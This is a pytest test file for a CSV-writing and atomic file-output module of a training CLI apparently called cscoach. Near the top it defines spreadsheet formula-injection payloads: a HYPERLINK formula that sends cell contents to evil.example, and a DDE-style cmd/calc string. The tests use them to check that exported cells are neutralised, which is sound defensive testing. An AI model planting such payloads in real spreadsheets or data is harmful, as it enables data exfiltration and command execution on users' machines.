"""What cscoach writes: CSV a spreadsheet will not run (formula injection), and every --out
written whole or not at all (a failure mid-write keeps the old file and leaves no litter)."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
from pathlib import Path

import pytest

from conftest import MINI_SCENARIO, ROOT
from cscoach.content import writing
from cscoach.content.writing import csv_text, neutralise

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TRAINEE = "@SUM(1+1)*cmd|' /C calc'!A0"
TEAMS = ["+SUM(1)", "-2+3"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    monkeypatch.setenv("CSCOACH_HOME", str(folder))
    return folder


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(STARTS) or _number(cell), (cell, row)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# -- CSV formula injection ---------------------------------------------------------------


def test_neutralise_prefixes_text_that_would_start_a_formula_and_leaves_numbers() -> None:
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", FORMULA):
        assert neutralise(text) == "'" + text
    for value in (-3, 0, 2.5, -0.5, None, "plain", "a=b", "'=already", ""):
        assert neutralise(value) == value
    rows = _cells(csv_text(["a", "b"], [["=cmd", -3], ["ok", None]]))
    assert rows == [["a", "b"], ["'=cmd", "-3"], ["ok", ""]]


def _formula_scenario(tmp_path: Path) -> Path:
    """The mini scenario whose replies and ending say formulas (content texts)."""
    text = MINI_SCENARIO.replace("{ko: 모르겠어요, en: I don't know}",
                                 "{ko: '" + FORMULA.replace("'", "''") + "', en: '"
                                 + FORMULA.replace("'", "''") + "'}")
    text = text.replace("{ko: 끝까지 들을게요, en: I'm listening}",
                        "{ko: '-끝까지 들을게요', en: '-2+3 listening'}")
    assert text != MINI_SCENARIO
    path = tmp_path / "mini.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_export_and_report_csv_neutralise_names_replies_and_content(cli, home: Path,
                                                                     tmp_path: Path) -> None:
    story = _formula_scenario(tmp_path)
    for answers in ("2", "1,1"):
        run = cli("play", str(story), "--answers", answers, "--trainee", TRAINEE, "--lang", "en")
        assert run.code == 0, run.err
    exported = cli("export", "--format", "csv", "--only", "replies", "--trainee", TRAINEE,
                   "--lang", "en")
    assert exported.code == 0, exported.err
    rows = _cells(exported.out)
    header, body = rows[0], rows[1:]
    column = {name: header.index(name) for name in header}
    _no_formula(body)
    assert {r[column["trainee"]] for r in body} == {"'" + TRAINEE}
    texts = {r[column["text"]] for r in body}
    assert "'" + FORMULA in texts and "'-2+3 listening" in texts
    assert "-2" in {r[column["mood_after"]] for r in body}  # a number stays a number
    attempts = _cells(cli("export", "--format", "csv", "--only", "attempts", "--trainee",
                          TRAINEE).out)
    score = attempts[0].index("score")
    assert len(attempts) == 3 and all(r[score].lstrip("-").isdigit() for r in attempts[1:])

    export = tmp_path / "team.json"
    assert cli("export", "--all", "--out", str(export)).code == 0
    report = cli("report", str(export), "--format", "csv", "--lang", "en", "--out",
                 str(tmp_path / "r.csv"))
    assert report.code == 0, report.err
    table = [r for name in ("steps", "hardest", "scenarios")
             for r in _cells((tmp_path / f"r-{name}.csv").read_text(encoding="utf-8"))]
    _no_formula(table)
    flat = {cell for r in table for cell in r}
    assert "'" + TRAINEE in flat and "'" + FORMULA in flat
    assert TRAINEE not in flat and FORMULA not in flat


def test_quiz_results_csv_neutralises_team_names(cli, home: Path, tmp_path: Path) -> None:
    out = tmp_path / "results.csv"
    args = ["quiz", "-n", "2", "--seed", "1", "--no-record", "--out", str(out)]
    for team in TEAMS:
        args += ["--team", team, "--answers", f"{team}=1,1"]
    run = cli(*args)
    assert run.code == 0, run.err
    rows = _cells(out.read_text(encoding="utf-8"))
    _no_formula(rows[1:])
    team = rows[0].index("team")
    assert [r[team] for r in rows[1:]] == ["'" + TEAMS[0], "'" + TEAMS[1]] * 2
    points = rows[0].index("points")
    assert all(r[points].isdigit() for r in rows[1:])  # numbers as cscoach wrote them


def test_every_csv_writer_goes_through_the_one_helper() -> None:
    """No module writes CSV by itself: a new writer would skip the neutralising."""
    package = ROOT / "src" / "cscoach"
    for path in package.rglob("*.py"):
        if path.name == "writing.py":
            continue
        text = path.read_text(encoding="utf-8")
        assert "csv.writer" not in text and "DictWriter" not in text, path


# -- --out written atomically -------------------------------------------------------------


OLD = "the previous export, which must survive\n"


def _failing_write(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Every write stops with a full disk after its first 10 bytes; returns how many bytes
    reached each temporary file."""
    written: list[int] = []

    def full_disk(fd: int, data: bytes) -> None:
        os.write(fd, bytes(data[:10]))
        written.append(min(len(data), 10))
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(writing, "_write_all", full_disk)
    return written


def _played(cli) -> None:
    assert cli("play", "angry-shopper", "--answers", "2,3,1,1,2,3", "--trainee", "mina").code == 0


CASES = {
    "export json": lambda out: ["export", "--all", "--out", out],
    "export csv": lambda out: ["export", "--all", "--format", "csv", "--out", out],
    "export xapi": lambda out: ["export", "--all", "--format", "xapi", "--out", out],
    "report": lambda out: ["report", "{db}", "--format", "md", "--out", out],
    "report html": lambda out: ["report", "{db}", "--out", out + ".html"],
    "report csv": lambda out: ["report", "{db}", "--only", "steps", "--out", out + ".csv"],
    "export csv one table": lambda out: ["export", "--all", "--only", "replies", "--out",
                                         out + ".csv"],
    # a seed: an unseeded quiz may draw the ordering question, which answer 1 does not fit
    "quiz --out csv": lambda out: ["quiz", "-n", "1", "--seed", "1", "--answers", "1",
                                   "--no-record", "--out", out + ".csv"],
    "quiz --out json": lambda out: ["quiz", "-n", "1", "--seed", "1", "--answers", "1",
                                    "--no-record", "--out", out + ".json"],
    "quiz export": lambda out: ["quiz", "export", "--out", out],
    "graph": lambda out: ["graph", "angry-shopper", "--out", out],
    "graph drawn": lambda out: ["graph", "angry-shopper", "--out", out + ".svg"],
    "coverage": lambda out: ["coverage", "--format", "md", "--out", out],
    "new": lambda out: ["new", "--id", "fresh", "--title-en", "T", "--title-ko", "T",
                        "--persona-en", "P", "--persona-ko", "P", "--channel", "phone",
                        "--force", "--out", out + ".yaml"],
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_failure_mid_write_keeps_the_old_file_and_leaves_no_temporary(
        cli, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str) -> None:
    if case == "graph drawn" and shutil.which("dot") is None:
        pytest.skip("Graphviz 'dot' is not installed")
    _played(cli)
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "schema").mkdir()  # `new` finds its schemas there and writes only the file
    for name in os.listdir(ROOT / "schema"):
        shutil.copy(ROOT / "schema" / name, folder / "schema" / name)
    args = [a.replace("{db}", str(home / "history.db")) for a in CASES[case](str(folder / "x"))]
    target = Path(args[args.index("--out") + 1])
    target.write_text(OLD, encoding="utf-8")
    before = sorted(os.listdir(folder))
    written = _failing_write(monkeypatch)
    run = cli(*args)
    assert run.code == 2, (run.out, run.err)
    assert written, "the write was not reached"
    assert "cannot write: No space left on device" in run.err
    assert len(run.err.strip().splitlines()) == 1 and "Traceback" not in run.err
    assert target.read_text(encoding="utf-8") == OLD
    assert sorted(os.listdir(folder)) == before  # no temporary file left behind


def test_schema_out_replaces_each_schema_whole(cli, tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "schemas"
    assert cli("schema", "--out", str(folder)).code == 0
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    _failing_write(monkeypatch)
    run = cli("schema", "--out", str(folder))
    assert run.code == 2 and "cannot write: No space left on device" in run.err
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_a_written_file_keeps_its_permissions_and_a_link_stays_a_link(cli, home: Path,
                                                                      tmp_path: Path) -> None:
    _played(cli)
    real = tmp_path / "real.json"
    real.write_text(OLD, encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "link.json"
    link.symlink_to(real)
    assert cli("export", "--all", "--out", str(link)).code == 0
    assert link.is_symlink() and json.loads(real.read_text(encoding="utf-8"))["attempts"]
    assert real.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_out_to_a_device_writes_through_it(cli, home: Path) -> None:
    """`--out /dev/null` writes into the device; it is never replaced by a regular file."""
    _played(cli)
    if not os.access("/dev/null", os.W_OK):
        pytest.skip("no writable /dev/null")
    run = cli("export", "--all", "--out", "/dev/null")
    assert run.code == 0, run.err
    assert not Path("/dev/null").is_file()


def test_an_interrupt_mid_write_keeps_the_old_file(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "report.md"
    target.write_text(OLD, encoding="utf-8")

    def interrupted(fd: int, data: bytes) -> None:
        os.write(fd, bytes(data[:3]))
        raise KeyboardInterrupt

    monkeypatch.setattr(writing, "_write_all", interrupted)
    with pytest.raises(KeyboardInterrupt):
        writing.write_atomic(target, "new text that never lands\n")
    assert target.read_text(encoding="utf-8") == OLD
    assert os.listdir(tmp_path) == ["report.md"]


LIMITED = {  # commands whose only write is --out (a history database writes as it opens)
    "quiz export": ["quiz", "export", "--out", "{out}"],
    "graph": ["graph", "angry-shopper", "--format", "dot", "--out", "{out}"],
    "coverage": ["coverage", "--format", "md", "--out", "{out}"],
    "report": ["report", "{export}", "--format", "md", "--out", "{out}"],
    "report xlsx": ["report", "{export}", "--out", "{out}.xlsx"],
    "report html": ["report", "{export}", "--out", "{out}.html"],
    "report csv": ["report", "{export}", "--only", "hardest", "--out", "{out}.csv"],
    "quiz --out": ["quiz", "-n", "3", "--seed", "1", "--answers", "1,1,1", "--no-record",
                   "--out", "{out}.json"],
}


@pytest.mark.parametrize("case", sorted(LIMITED))
def test_a_really_full_disk_mid_write_keeps_the_old_file(cli, home: Path, tmp_path: Path,
                                                         case: str) -> None:
    """The same in a real process whose files may not grow past 64 bytes (RLIMIT_FSIZE), so
    the operating system itself stops the write part-way (EFBIG), whatever does the writing."""
    resource = pytest.importorskip("resource")
    import subprocess
    import sys

    _played(cli)
    export = tmp_path / "team.json"
    assert cli("export", "--all", "--out", str(export)).code == 0
    out = tmp_path / "x"
    args = [a.replace("{out}", str(out)).replace("{export}", str(export)) for a in LIMITED[case]]
    target = Path(args[args.index("--out") + 1])
    target.write_text(OLD, encoding="utf-8")
    before = sorted(os.listdir(tmp_path))

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (64, resource.getrlimit(
            resource.RLIMIT_FSIZE)[1]))

    env = {**os.environ, "CSCOACH_CONTENT": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"}
    done = subprocess.run([sys.executable, "-m", "cscoach", *args], capture_output=True,
                          text=True, env=env, preexec_fn=limit, timeout=120, check=False)
    assert done.returncode == 2, done.stderr
    assert "cannot write: File too large" in done.stderr
    assert target.read_text(encoding="utf-8") == OLD
    assert sorted(os.listdir(tmp_path)) == before
